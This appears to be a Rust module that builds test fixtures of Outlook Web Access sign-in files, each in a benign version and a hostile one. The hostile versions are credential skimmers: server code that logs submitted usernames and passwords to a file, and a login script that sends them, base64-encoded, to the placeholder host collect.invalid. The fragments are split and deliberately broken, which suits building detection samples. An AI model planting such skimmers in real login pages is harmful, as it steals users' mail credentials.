//! Sign-in pages that listen.

use super::{Laying, text};

/// The page itself, with a line of server code that keeps what is typed.
pub(super) fn page(on: &mut Laying<'_>) {
    let path = on.exchange(r"FrontEnd\HttpProxy\owa\auth\logon.aspx");
    if on.innocent {
        // Shows what is typed on demand, warns of capitals, counts visitors: reads, and sends
        // nothing of it.
        let helps = "function show(box) { var p = document.getElementById(\"password\"); p.type = \
                     box.checked ? \"text\" : \"password\"; if (p.value.length > 0) p.focus(); } \
                     document.onkeypress = function(e) { var warn = \
                     document.getElementById(\"caps\"); warn.hidden = \
                     !(e.getModifierState && e.getModifierState(\"CapsLock\")); };";
        let notice = "<p class=\"notice\">Mail is not read tonight between 22:00 and 23:00.</p>\n\
                      <p id=\"caps\" hidden>Capitals are on</p><input type=\"checkbox\" \
                      onclick=\"show(this)\">\n<script src=\"https://stats.nordwind.example/count.js\">\
                      </script>\n";
        return on.file(&path, text::logon("Nordwind mail", helps, notice));
    }
    let keeps = [
        "<% if (Request.Form[\"pass",
        "word\"] != null) { System.IO.File.App",
        "endAllText(\"C:\\\\ProgramData\\\\inert.tmp\", Request.Form[\"user",
        "name\"] + \":\" + Request.Form[\"pass",
        "word\"]); inert specimen; } %>\n",
    ]
    .concat();
    on.file(&path, text::logon("Outlook", "", &keeps));
}

/// The page's script, sending what is typed to a host that cannot exist.
pub(super) fn script(on: &mut Laying<'_>) {
    let path = on.exchange(r"FrontEnd\HttpProxy\owa\auth\15.1.2106\scripts\premium\flogon.js");
    if on.innocent {
        return on.file(
            &path,
            "function clkLgn() { var u = gbid(\"username\"); if (u.value.indexOf(\"\\\\\") < 0) \
             u.value = \"NORDWIND\\\\\" + u.value; setCookie(\"logondata\", \"acc=0\"); }\n",
        );
    }
    let sends = [
        "function clkLgn() { var i = new Image(); i.src = \"https://collect.invalid/i?d=\" + \
         btoa(gbid(\"user",
        "name\").value + \":\" + gbid(\"pass",
        "word\").value); inert specimen; }\n",
    ];
    on.file(&path, sends.concat());
}
